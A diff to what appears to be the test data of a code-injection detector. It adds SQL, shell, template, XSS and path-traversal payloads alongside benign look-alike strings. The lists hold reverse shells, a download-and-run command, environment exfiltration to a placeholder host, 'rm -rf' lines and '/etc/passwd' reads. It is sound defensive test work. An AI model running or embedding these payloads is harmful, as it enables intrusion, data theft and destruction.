@@ -13,6 +13,13 @@ from tools.guard.checks.code_injection import Options
 
 PAYLOADS = {
     "sql": [
+        "') OR ('x'='x",
+        "%' OR '%'='",
+        "1 OR 1=1",
+        "105; DROP TABLE Suppliers",
+        "' UNION ALL SELECT card FROM payments WHERE '1'='1",
+        "1' ORDER BY 10--",
+        "'; SELECT pg_sleep(10)--",
         "' OR '1'='1",
         "admin' or 1=1 --",
         '" or 1=1 #',
@@ -34,6 +41,11 @@ PAYLOADS = {
         "admin'--'",
     ],
     "shell": [
+        "$(rm -rf ~/)",
+        "wget http://x.example/m -O /tmp/m; chmod +x /tmp/m; /tmp/m",
+        "ruby -rsocket -e 'exit if fork'",
+        "() { :;}; /bin/bash -c 'id'",
+        "os.system('rm -rf /')",
         "bash -i >& /dev/tcp/10.0.0.5/4444 0>&1",
         "nc -e /bin/sh 10.0.0.5 4444",
         "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.5 9001 > /tmp/f",
@@ -57,6 +69,11 @@ PAYLOADS = {
         "env | base64 | curl -d @- https://evil.example",
     ],
     "template": [
+        "<%= File.open('/etc/passwd').read %>",
+        "#set($x=$class.forName('java.lang.Runtime'))",
+        "{{constructor.constructor('alert(1)')()}}",
+        "${@print(md5(1))}",
+        "*{T(java.lang.System).getenv()}",
         "{{7*7}}",
         "Hello {{ 7 * '7' }}",
         "${7*7}",
@@ -76,6 +93,9 @@ PAYLOADS = {
         "${${lower:j}ndi:rmi://evil.example/a}",
     ],
     "xss": [
+        "'-alert(1)-'",
+        '<a href="jav&#x09;ascript:alert(1)">',
+        "<x onclick=alert(1)>",
         '"><script>alert(1)</script>',
         "'><img src=x onerror=alert(1)>",
         "</title><script>alert(document.domain)</script>",
@@ -96,6 +116,9 @@ PAYLOADS = {
         "<script src=//evil.example/xss.js></script>",
     ],
     "path": [
+        "..;/..;/etc/passwd",
+        "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
+        "expect://id",
         "../../../../etc/passwd",
         "..\\..\\..\\windows\\system32\\config\\sam",
         "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
@@ -108,6 +131,14 @@ PAYLOADS = {
     ],
 }
 HARMLESS = [
+    '<img src="a.png" onload="resize(this)">',
+    '<a href="#" onclick="alert(\'Saved\'); return false;">',
+    "cp ../../etc/nginx.conf /etc/nginx/",
+    "if x == 'a' or 1 == y or 'b' == z:",
+    "SELECT 'a' UNION SELECT name FROM t WHERE kind = 'x';",
+    "curl -LO https://dl.example.org/tool && chmod +x tool && ./tool",
+    "subprocess.run('rm -rf build', shell=True)",
+    "sudo apt-get upgrade && sudo reboot",
     "SELECT name, salary FROM employees WHERE department = 'Sales' AND salary > 50000 ORDER BY salary DESC;",
     "SELECT id FROM a UNION SELECT id FROM b; -- both lists",
     "SELECT city FROM customers UNION ALL SELECT city FROM suppliers ORDER BY city;",
